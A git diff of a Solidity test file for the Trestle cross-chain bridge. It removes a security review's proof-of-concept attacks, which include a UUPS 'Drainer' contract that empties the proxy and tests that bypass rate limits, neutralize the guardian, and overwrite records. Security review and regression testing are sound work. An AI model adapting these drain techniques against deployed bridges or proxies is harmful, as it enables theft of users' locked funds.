@@ -1,30 +1,17 @@
 // SPDX-License-Identifier: Apache-2.0
 pragma solidity ^0.8.28;
 
-import {UUPSUpgradeable} from "@openzeppelin/contracts/proxy/utils/UUPSUpgradeable.sol";
 import {Fixture} from "./utils/Fixture.sol";
 import {Bridge} from "../src/Bridge.sol";
 import {BridgeAdmin} from "../src/BridgeAdmin.sol";
 import {BridgeBase} from "../src/BridgeBase.sol";
 import {TrestleProtocol as P} from "../src/TrestleProtocol.sol";
-import {GasRecipient, MockERC20} from "./utils/Mocks.sol";
+import {GasRecipient} from "./utils/Mocks.sol";
 import {IMessageRecipient} from "../src/IMessageRecipient.sol";
-import {Vm} from "./Vm.sol";
 import {BridgedToken} from "../src/BridgedToken.sol";
 
 contract BridgedTokenLike is BridgedToken {
     constructor(address b) BridgedToken(b, "Nine", "N9", 9) {}
-}
-
-/// @notice What a compromised admin installs: a UUPS implementation that empties the proxy.
-contract Drainer is UUPSUpgradeable {
-    function _authorizeUpgrade(address) internal override {}
-
-    function drain(address token, address to) external {
-        (bool ok,) = to.call{value: address(this).balance}("");
-        require(ok, "eth");
-        MockERC20(token).transfer(to, MockERC20(token).balanceOf(address(this)));
-    }
 }
 
 /// @notice A recipient that tries to re-enter the bridge from `handle` (deliver, executeQueued).
@@ -86,12 +73,18 @@ contract ReturnBomb is IMessageRecipient {
     }
 }
 
-/// @notice Proofs of concept of the independent review of the v2 diff (909e3fa..HEAD).
-/// Each `test_poc_*` PASSES when the weakness is present (it asserts the attacker's success).
-/// `test_check_*` tests assert properties the review verified hold (no finding).
+/// @notice What the independent review of the v2 diff (909e3fa..HEAD) verified holds (no
+/// finding): each `test_check_*` asserts such a property. Its proofs of concept (`test_poc_*`,
+/// passing while a weakness existed) became regression tests asserting the fixed behaviour
+/// (docs/protocol.md after the second review), in the suites they belong to:
+/// F-1 over-capacity transfers are timelocked (`FindingsTest.test_review2_F1_*`, and
+/// `FuzzTest.testFuzz_inbound_amounts`); F-2 a guardian change waits `GUARDIAN_CHANGE_DELAY`
+/// unless the guardian approves it (`FindingsTest.test_review2_F2_*`); F-3 upgrade proposals
+/// carry no call data (`UpgradeTest.test_review2_F3_*`); F-4 no delivery writes over a record
+/// (`FindingsTest.test_review2_F4_*`); F-5 a refund goes only to the origin bridge the transfer
+/// came from (`PayoutsTest.test_review2_F5_*`); F-6 the bridge is never a beneficiary
+/// (`FindingsTest.test_review2_F6_*`).
 contract ReviewPoCTest is Fixture {
-    bytes32 internal constant MESSAGE_SENT = keccak256("MessageSent(bytes32,uint32,uint64,bytes)");
-
     function deliverCall(bytes memory m, bytes memory s) internal pure returns (bytes memory) {
         return abi.encodeCall(Bridge.deliver, (m, s));
     }
@@ -100,241 +93,10 @@ contract ReviewPoCTest is Fixture {
         return bridge.statusOf(m);
     }
 
-    // =====================================================================================
-    // F-1 (medium): a transfer above the route's inbound capacity but below the token's
-    // timelock threshold is queued with readyAt = now and `_consumeQueued` lets it through
-    // on a full bucket, emptying it: one message moves any amount below the threshold
-    // instantly (deliver + executeQueued in one transaction, so the guardian cannot cancel).
-    // =====================================================================================
-
-    function test_poc_F1_over_capacity_transfer_bypasses_the_inbound_rate_limit() public {
-        // A weak origin's route gets a small bucket: 100 ether capacity, refilling in ~1 day.
-        // The token's timelock threshold is global (TIMELOCK_THRESHOLD = 1,000 ether): nothing
-        // in setToken/setLimits relates the two.
-        uint128 cap = 100 ether;
-        uint128 refill = 0.0012 ether; // ~100 ether per 83,333 s
-        adminCall(abi.encodeCall(BridgeAdmin.setLimits, (nativeId, ORIGIN, cap, refill, CAPACITY, REFILL)));
-        assertEq(gov.availableFor(nativeId, ORIGIN, true), cap, "bucket full");
-
-        // Compromised validator set (or any sender): 999 ether, 10x the capacity, just under
-        // the timelock threshold.
-        uint256 big = TIMELOCK_THRESHOLD - 1 ether;
-        address attacker = address(0xBAD);
-        bytes memory m = transferMsg(0, nativeId, big, attacker);
-        uint256 t0 = block.timestamp;
-        bridge.deliver(m, sign(m, 4));
-        assertTrue(status(m) == BridgeBase.Status.Queued, "queued by the rate limit, readyAt = now");
-        (, uint64 readyAt,,,) = gov.records(keccak256(m));
-        assertEq(readyAt, t0, "no delay at all");
-        // Same block: anyone executes it.
-        bridge.executeQueued(m);
-        assertEq(block.timestamp, t0, "same block");
-        assertEq(attacker.balance, big, "10x the bucket's capacity released at once");
-
-        // Repeat every time the bucket is full: ~999 ether per refill period instead of 100.
-        vm.warp(block.timestamp + uint256(cap) / refill + 1);
-        bytes memory m2 = transferMsg(1, nativeId, big, attacker);
-        bridge.deliver(m2, sign(m2, 4));
-        bridge.executeQueued(m2);
-        assertEq(attacker.balance, 2 * big, "again after one refill period");
-        // While a sequence of in-capacity transfers meets the bucket as intended:
-        bytes memory small = transferMsg(2, nativeId, cap, attacker);
-        bridge.deliver(small, sign(small, 4));
-        expectError(abi.encodeCall(Bridge.executeQueued, (small)), BridgeBase.RateLimited.selector);
-    }
-
-    // =====================================================================================
-    // F-2 (medium): a single admin key neutralizes the guardian (setRoles cannot be vetoed)
-    // and then upgrades; a pause does not stop `execute`, so the guardian has no way to
-    // stop the drain.
-    // =====================================================================================
-
-    function test_poc_F2_admin_alone_replaces_guardian_and_drains_while_paused() public {
-        address evilGuardian = address(0xE71);
-        bytes memory roles = abi.encodeCall(BridgeAdmin.setRoles, (ADMIN, evilGuardian));
-        vm.prank(ADMIN);
-        bytes32 rid = gov.propose(roles, bytes32(uint256(1)));
-        // The honest guardian sees it and tries everything it has:
-        expectErrorFrom(GUARDIAN, abi.encodeCall(BridgeAdmin.cancelProposal, (rid)), 0, BridgeBase.GuardianCannotVeto.selector);
-        vm.prank(GUARDIAN);
-        gov.pause();
-        vm.warp(block.timestamp + ADMIN_DELAY);
-        gov.execute(roles, bytes32(uint256(1))); // executes while paused
-        assertEq(gov.guardian(), evilGuardian, "guardian replaced by the admin alone");
-
-        // Now nobody vetoes: an upgrade that drains, executed while the bridge is still paused.
-        Drainer drainer = new Drainer();
-        address thief = address(0x7E1F);
-        bytes memory up = abi.encodeCall(
-            UUPSUpgradeable.upgradeToAndCall,
-            (address(drainer), abi.encodeCall(Drainer.drain, (address(homeToken), thief)))
-        );
-        vm.prank(ADMIN);
-        gov.propose(up, bytes32(uint256(2)));
-        vm.warp(block.timestamp + ADMIN_DELAY);
-        assertTrue(gov.paused(), "still paused");
-        gov.execute(up, bytes32(uint256(2)));
-        assertEq(thief.balance, LEDGER, "all locked ether");
-        assertEq(homeToken.balanceOf(thief), LEDGER, "all locked tokens");
-        assertEq(address(bridge).balance, 0, "bridge empty");
-    }
-
-    // =====================================================================================
-    // F-3 (low): the selector allowlist, "unpause only while paused" and StaleUnpause look
-    // at the outer selector only. `upgradeToAndCall(currentImpl, data)` delegatecalls `data`
-    // with msg.sender == the proxy, so any self-only call (an unpause proposed before the
-    // pause) or a non-allowlisted call (a message sent *by the bridge*) rides inside it.
-    // =====================================================================================
-
     function _impl() internal view returns (address) {
         return address(
             uint160(uint256(vm.load(address(bridge), 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc)))
         );
-    }
-
-    function test_poc_F3_unpause_queued_before_the_pause_via_upgradeToAndCall() public {
-        // An unpause cannot be proposed while not paused...
-        expectErrorFrom(
-            ADMIN,
-            abi.encodeCall(BridgeAdmin.propose, (abi.encodeCall(BridgeAdmin.unpause, ()), 0)),
-            0,
-            BridgeBase.NotPaused.selector
-        );
-        // ...but wrapped in a no-op upgrade it can.
-        bytes memory wrapped_ =
-            abi.encodeCall(UUPSUpgradeable.upgradeToAndCall, (_impl(), abi.encodeCall(BridgeAdmin.unpause, ())));
-        vm.prank(ADMIN);
-        gov.propose(wrapped_, 0);
-        // An incident: the guardian pauses after the proposal was made.
-        vm.warp(block.timestamp + 1 hours);
-        vm.prank(GUARDIAN);
-        gov.pause();
-        vm.warp(block.timestamp + ADMIN_DELAY);
-        gov.execute(wrapped_, 0); // proposedAt < pausedAt, yet no StaleUnpause
-        assertTrue(!gov.paused(), "a pre-pause unpause ended the pause");
-    }
-
-    function test_poc_F3_bridge_sends_a_message_as_itself_via_upgradeToAndCall() public {
-        bytes memory send = abi.encodeCall(Bridge.sendMessage, (ORIGIN, b32(BOB), GAS_LIMIT, "from the bridge"));
-        expectErrorFrom(ADMIN, abi.encodeCall(BridgeAdmin.propose, (send, 0)), 0, BridgeBase.NotAnAdminCall.selector);
-        bytes memory wrapped_ = abi.encodeCall(UUPSUpgradeable.upgradeToAndCall, (_impl(), send));
-        vm.prank(ADMIN);
-        gov.propose(wrapped_, 0);
-        vm.warp(block.timestamp + ADMIN_DELAY);
-        vm.recordLogs();
-        gov.execute(wrapped_, 0);
-        Vm.Log[] memory logs = vm.getRecordedLogs();
-        bytes memory message;
-        for (uint256 i; i < logs.length; ++i) {
-            if (logs[i].topics[0] == MESSAGE_SENT) message = abi.decode(logs[i].data, (bytes));
-        }
-        (P.Header memory h,) = this.decodeExt(message);
-        assertEq(h.sender, b32(address(bridge)), "a message whose sender is the bridge itself");
-    }
-
-    function decodeExt(bytes calldata m) external pure returns (P.Header memory h, bytes memory body) {
-        return P.decode(m);
-    }
-
-    // =====================================================================================
-    // F-4 (low): `_records` is keyed by the message id, which does not name the origin
-    // bridge, while replay is keyed by (origin, origin bridge, nonce). After setRemote points
-    // a domain at a redeployed bridge, a message byte-identical to one of the old bridge's
-    // (same nonce, sender, recipient, body: the sender can align nonces with sendMessage)
-    // overwrites the old record: a queued entry is lost (ledger taken twice, paid once), a
-    // cancelled one turns back into Queued (its refund path disappears).
-    // =====================================================================================
-
-    function test_poc_F4_identical_message_from_a_redeployed_origin_overwrites_the_record() public {
-        bytes memory m = transferMsg(7, homeId, TIMELOCK_THRESHOLD, BOB); // timelocked
-        bridge.deliver(m, sign(m, 4));
-        int256 afterFirst = ledgerOf(homeId, ORIGIN);
-        bytes32 newBridge = bytes32(uint256(0x00b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2));
-        adminCall(abi.encodeCall(BridgeAdmin.setRemote, (ORIGIN, newBridge, 0)));
-        // The same bytes, attested for the new origin bridge (a new replay key).
-        bytes32 d = P.digest(ORIGIN, newBridge, LOCAL, b32(address(bridge)), epoch, keccak256(m));
-        bytes memory sigs;
-        for (uint256 i; i < 4; ++i) {
-            sigs = bytes.concat(sigs, sigOf(keys[i], d));
-        }
-        bridge.deliver(m, sigs);
-        assertEq(ledgerOf(homeId, ORIGIN), afterFirst - int256(uint256(TIMELOCK_THRESHOLD)), "ledger taken twice");
-        vm.warp(block.timestamp + TRANSFER_DELAY);
-        bridge.executeQueued(m);
-        expectError(abi.encodeCall(Bridge.executeQueued, (m)), BridgeBase.NotQueued.selector);
-        assertEq(homeToken.balanceOf(BOB), TIMELOCK_THRESHOLD, "two deliveries, one payout");
-        // and the guardian cannot give the second one back either
-        expectErrorFrom(GUARDIAN, abi.encodeCall(BridgeAdmin.cancelQueued, (keccak256(m))), 0, BridgeBase.NotQueued.selector);
-    }
-
-    function test_poc_F4_cancelled_record_resurrected_and_refund_lost() public {
-        bytes memory m = transferMsg(7, homeId, TIMELOCK_THRESHOLD, BOB);
-        bridge.deliver(m, sign(m, 4));
-        vm.prank(GUARDIAN);
-        gov.cancelQueued(keccak256(m));
-        bytes32 newBridge = bytes32(uint256(0x00b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2));
-        adminCall(abi.encodeCall(BridgeAdmin.setRemote, (ORIGIN, newBridge, 0)));
-        bytes32 d = P.digest(ORIGIN, newBridge, LOCAL, b32(address(bridge)), epoch, keccak256(m));
-        bytes memory sigs;
-        for (uint256 i; i < 4; ++i) {
-            sigs = bytes.concat(sigs, sigOf(keys[i], d));
-        }
-        bridge.deliver(m, sigs);
-        assertTrue(status(m) == BridgeBase.Status.Queued, "Cancelled -> Queued");
-        vm.warp(block.timestamp + TRANSFER_DELAY);
-        bridge.executeQueued(m);
-        // The first (cancelled) transfer can no longer be refunded.
-        bytes memory call = abi.encodeCall(BridgeAdmin.refundCancelled, (m));
-        vm.prank(ADMIN);
-        gov.propose(call, bytes32(uint256(0xfeed)));
-        vm.warp(block.timestamp + ADMIN_DELAY);
-        expectError(abi.encodeCall(BridgeAdmin.execute, (call, bytes32(uint256(0xfeed)))), BridgeBase.NotCancelled.selector);
-    }
-
-    // =====================================================================================
-    // F-5 (low): refundCancelled sends to the origin domain's *current* bridge, not the
-    // bridge the cancelled message came from; after a redeploy the new bridge, which never
-    // locked the amount, pays it out of what other users locked there.
-    // =====================================================================================
-
-    function test_poc_F5_refund_is_addressed_to_the_current_remote_bridge() public {
-        bytes memory m = transferMsg(3, homeId, TIMELOCK_THRESHOLD, BOB);
-        bridge.deliver(m, sign(m, 4)); // from REMOTE_BRIDGE
-        vm.prank(GUARDIAN);
-        gov.cancelQueued(keccak256(m));
-        bytes32 newBridge = bytes32(uint256(0x00b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2));
-        adminCall(abi.encodeCall(BridgeAdmin.setRemote, (ORIGIN, newBridge, 0)));
-        vm.recordLogs();
-        adminCall(abi.encodeCall(BridgeAdmin.refundCancelled, (m)));
-        Vm.Log[] memory logs = vm.getRecordedLogs();
-        bytes memory refund;
-        for (uint256 i; i < logs.length; ++i) {
-            if (logs[i].topics[0] == MESSAGE_SENT) refund = abi.decode(logs[i].data, (bytes));
-        }
-        (P.Header memory h,) = this.decodeExt(refund);
-        assertEq(h.recipient, newBridge, "refund to the redeployed bridge, not to the one that locked it");
-    }
-
-    // =====================================================================================
-    // F-6 (info): a beneficiary equal to the bridge itself is accepted at send and at
-    // delivery: a home ERC-20 "paid" to the bridge stays in it while the route's ledger
-    // forgets it (stranded collateral); a refund of a refund produces exactly this.
-    // =====================================================================================
-
-    function test_poc_F6_beneficiary_the_bridge_itself_strands_collateral() public {
-        uint256 before = homeToken.balanceOf(address(bridge));
-        int256 ledgerBefore = ledgerOf(homeId, ORIGIN);
-        bytes memory m = transferMsg(0, homeId, 5e18, address(bridge));
-        bridge.deliver(m, sign(m, 4));
-        assertEq(homeToken.balanceOf(address(bridge)), before, "nothing left the bridge");
-        assertEq(ledgerOf(homeId, ORIGIN), ledgerBefore - 5e18, "but the ledger counts it as released");
-        assertTrue(status(m) == BridgeBase.Status.Executed, "executed");
-        // and sending to the remote bridge as beneficiary is accepted too
-        homeToken.mint(USER, 1e18);
-        vm.prank(USER);
-        homeToken.approve(address(bridge), 1e18);
-        vm.prank(USER);
-        bridge.sendToken(ORIGIN, homeId, 1e18, REMOTE_BRIDGE);
     }
 
     // =====================================================================================
